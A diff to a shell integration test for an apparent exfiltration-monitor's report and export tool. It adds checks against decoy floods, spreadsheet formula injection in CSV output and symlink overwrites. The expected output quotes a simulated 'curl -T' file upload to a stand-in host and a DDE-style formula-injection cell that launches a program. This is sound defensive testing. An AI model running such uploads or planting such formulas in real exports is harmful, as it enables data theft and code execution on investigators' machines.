@@ -6,10 +6,13 @@
 # user, byte totals, alerts, gaps and verification, with hostile names shown as text.
 # Then damage: a flipped bit, a removed segment, a cut-off tail, foreign and empty
 # directories and bad arguments must give clear errors and the right exit status.
+# Last, the attacks on the investigator (issue 11 part D) on a hostile store: decoy
+# floods that must not push the real upload out of the report, a per-user alert that
+# must show in each session it covers, formula cells in the CSV, a symlink at -o.
 # Needs no root and no BPF. usage: tests/integration/test_report.sh
 set -u
 ROOT=$(cd "$(dirname "$0")/../.." && pwd)
-BUILD=$ROOT/build
+BUILD=${BUILD:-$ROOT/build}
 T=$(mktemp -d /tmp/exfilmon-report.XXXXXX)
 trap 'rm -rf "$T"' EXIT
 PASS=0 FAIL=0
@@ -20,7 +23,10 @@ check() { # NAME ACTUAL EXPECTED
 die() { echo "test_report: FATAL: $*" >&2; exit 1; }
 ctl() { "$BUILD/exfilctl" "$@"; }
 
-[ -x "$BUILD/exfilctl" ] && [ -f "$BUILD/libexfilmon.a" ] || die "run make first"
+[ -x "$BUILD/exfilctl" ] || die "run make first"
+# BUILD=DIR runs the checks against another build (the code before a fix, say).
+[ "$BUILD" != "$ROOT/build" ] || make -s -C "$ROOT" build/libexfilmon.a >/dev/null ||
+	die "make build/libexfilmon.a"
 gcc -std=gnu11 -Wall -Wextra -Werror -I"$ROOT/user" -I"$ROOT/include" \
 	"$ROOT/tests/lib/gen_evidence.c" "$BUILD/libexfilmon.a" \
 	$(pkg-config --libs zlib jansson libcrypto) -o "$T/gen_evidence" || die "gen_evidence build"
@@ -159,6 +165,95 @@ ctl export --dir "$T/live" --format xml 2>/dev/null
 check "bad format: exit 2" "$?" 2
 ctl report --dir "$T/live" --session 99 -o "$T/none.html" 2>/dev/null
 check "unknown session: exit 1" "$?" 1
+
+# --- Attacks on the investigator (issue 11 part D), on the hostile store.
+H=$T/hostile
+"$T/gen_evidence" "$H" 0 hostile || die "gen_evidence hostile"
+# table ID: its rows as name|kind|bytes; the last is the everything-else row if any.
+rows() { python3 - "$1" "$2" <<'PY'
+import html.parser, sys
+class P(html.parser.HTMLParser):
+    def __init__(s, want):
+        super().__init__(); s.want = want; s.on = False; s.rows = []; s.cell = None
+    def handle_starttag(s, tag, attrs):
+        if tag == "table" and dict(attrs).get("id") == s.want: s.on = True
+        elif s.on and tag == "tr": s.rows.append([])
+        elif s.on and tag in ("td", "th"): s.cell = []
+    def handle_endtag(s, tag):
+        if tag == "table": s.on = False
+        elif s.on and tag in ("td", "th") and s.cell is not None:
+            s.rows[-1].append(" ".join("".join(s.cell).split())); s.cell = None
+    def handle_data(s, d):
+        if s.cell is not None: s.cell.append(d)
+p = P(sys.argv[2]); p.feed(open(sys.argv[1]).read())
+for r in p.rows[1:]: print("|".join(r))
+PY
+}
+ctl report --dir "$H" --session 20 -o "$T/h20.html"
+check "decoys: report written" "$?" 0
+rows "$T/h20.html" destinations >"$T/dst.txt"
+rows "$T/h20.html" sources >"$T/src.txt"
+check "decoys: the 5 GB destination is the first row" "$(head -1 "$T/dst.txt")" "127.0.0.77:8080|egress_net|5000000000"
+check "decoys: the 5 GB source is the first row" "$(head -1 "$T/src.txt")" "127.0.0.2:5432|source_net|5000000000"
+check "decoys: destinations end with an everything-else row" "$(tail -1 "$T/dst.txt")" "everything else: 576 more||576"
+check "decoys: 25 rows and the rest add up to the bytes sent out" \
+	"$(awk -F'|' '{s += $3} END {printf "%d %.0f", NR, s}' "$T/dst.txt")" "26 5000000600"
+check "decoys: sources add up to the bytes collected" \
+	"$(awk -F'|' '{s += $3} END {printf "%.0f", s}' "$T/src.txt")" 5000000606
+python3 - "$T/h20.html" >"$T/procs.txt" <<'PY'
+import re, sys
+h = open(sys.argv[1]).read()
+tree = re.search(r'<ul class="tree" id="processes">(.*)</ul>', h, re.S).group(1)
+print(re.sub(r"<[^>]+>", " ", tree))
+PY
+check "decoys: curl and its 5 GB in the process tree" "$(grep -c '2002 curl curl -T /tmp/all.csv http://127.0.0.77:8080/ (read 0, sent 5000000000 bytes)' <(tr -s ' ' <"$T/procs.txt"))" 1
+check "decoys: the decoy execs are summed, not dropped" "$(grep -oE 'everything else: [0-9]+ more processes' "$T/procs.txt")" "everything else: 3909 more processes"
+rows "$T/h20.html" timeline >"$T/tl.txt"
+check "decoys: the timeline keeps the 5 GB upload past 5000 events" \
+	"$(grep -c '|egress_net curl(2002) 1000000000 bytes -> 127.0.0.77:8080$' "$T/tl.txt"):$(grep -c '^2026' "$T/tl.txt")" "5:5000"
+check "decoys: the timeline counts what it left out" \
+	"$(grep -oE 'everything else: [0-9]+ more events' "$T/tl.txt")" "everything else: 327 more events"
+# --json output as a list, whether one array or one object per line.
+jlist() { python3 -c 'import json, sys
+t = sys.stdin.read().strip()
+v = json.loads(t) if t.startswith("[") else [json.loads(l) for l in t.splitlines() if l.strip()]
+print(eval(sys.argv[1], {"v": v}))' "$1"; }
+check "per-user alert counted in sessions 21 and 22 only" \
+	"$(ctl sessions --dir "$H" --json | jlist 'sorted((s["session_id"], s["alerts"]) for s in v)')" \
+	"[(20, 0), (21, 1), (22, 1), (23, 0), (24, 0)]"
+check "alerts: a per-user alert is not shown as session 0" "$(ctl alerts --dir "$H" | awk 'NR > 1 {print $4}')" "21,22"
+for s in 21 22 23 24; do
+	n=$(ctl alerts --dir "$H" --session $s --json | jlist 'len(v)')
+	ctl report --dir "$H" --session $s -o "$T/h$s.html"
+	r=$(rows "$T/h$s.html" alerts | cut -d'|' -f2 | cut -d' ' -f1)
+	t=$(ctl timeline --dir "$H" --session $s | grep -c 'ALERT .*slow_drip')
+	case $s in 21|22) want="1 slow_drip 2" ;; *) want="0 none 0" ;; esac
+	check "per-user alert in session $s: alerts --session, report, timeline" "$n $r $t" "$want"
+done
+ctl export --dir "$H" --session 20 --format csv >"$T/h20.csv"
+check "csv: no cell a spreadsheet would run as a formula" "$(python3 -c '
+import csv, sys
+cells = [c for row in csv.reader(open(sys.argv[1], newline="")) for c in row]
+print(len(cells) > 20000, sum(1 for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")))' "$T/h20.csv")" "True 0"
+check "csv: a formula comm is kept, as text" "$(grep -c "\"'=cmd|' /C calc'!A0\"" "$T/h20.csv")" 2
+check "csv: tab and CR comms neutralised" "$(grep -cE "\"'("$'\t'"TAB| CR)\"" "$T/h20.csv")" 4
+# export and timeline stream the store: five times the records, the same memory.
+rss() { python3 -c 'import resource, subprocess, sys
+subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL, check=True)
+print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)' "$@"; }
+"$T/gen_evidence" "$T/small" 10000 big && "$T/gen_evidence" "$T/large" 50000 big || die "gen_evidence big"
+for cmd in "export --format csv" "timeline --session 8"; do
+	small=$(rss "$BUILD/exfilctl" $cmd --dir "$T/small") large=$(rss "$BUILD/exfilctl" $cmd --dir "$T/large")
+	check "$cmd streams: 50000 records in the memory of 10000 (+4 MiB), under 32 MiB" \
+		"$([ "$large" -lt $((small + 4096)) ] && [ "$large" -lt 32768 ] && echo yes || echo "no: $small KiB, $large KiB")" yes
+done
+rm -rf "$T/small" "$T/large"
+
+echo precious >"$T/victim"
+ln -s "$T/victim" "$T/link.html"
+ctl report --dir "$H" --session 20 -o "$T/link.html" 2>"$T/err.txt"
+check "-o through a symlink: refused, target untouched" "$?:$(head -c 20 "$T/victim")" "1:precious"
+check "-o through a symlink: says why" "$(grep -c 'is a symbolic link (not followed' "$T/err.txt")" 1
 
 echo "test_report: $PASS passed, $FAIL failed"
 [ "$FAIL" = 0 ]
